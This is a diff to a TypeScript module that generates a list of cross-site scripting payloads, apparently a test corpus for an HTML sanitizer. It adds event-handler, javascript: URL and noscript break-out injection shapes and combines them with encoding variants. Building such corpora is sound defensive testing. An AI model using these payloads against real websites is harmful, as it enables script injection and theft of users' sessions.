@@ -40,6 +40,13 @@ const shapes: readonly string[] = [
   `<style>@import 'https://stranger.invalid/x.css'</style>`,
   `<img src="https://stranger.invalid/x.png">`,
   `<template><script>${act}</script></template>`,
+  `<audio src=x onerror=${act}>`,
+  `<select autofocus onfocus=${act}><option>x</select>`,
+  `<marquee onstart=${act}>x</marquee>`,
+  `<svg><a xlink:href="javascript:${act}"><text y=9>go</text></a></svg>`,
+  `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
+  `<table background="javascript:${act}"><tr><td>x</table>`,
+  `<p style="animation: x 1s" onanimationstart=${act}>`,
   `{{constructor.constructor("${act}")()}}`,
   `\${${act}}`,
   `\`+${act}+\``,
@@ -58,5 +65,7 @@ const disguises: readonly ((text: string) => string)[] = [
   (text) => text.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
 ];
 
-/** 320 of them. */
-export const scriptPayloads: readonly string[] = disguises.flatMap((disguise) => shapes.map(disguise));
+/** More than 300, each another text. */
+export const scriptPayloads: readonly string[] = [
+  ...new Set(disguises.flatMap((disguise) => shapes.map(disguise))),
+];
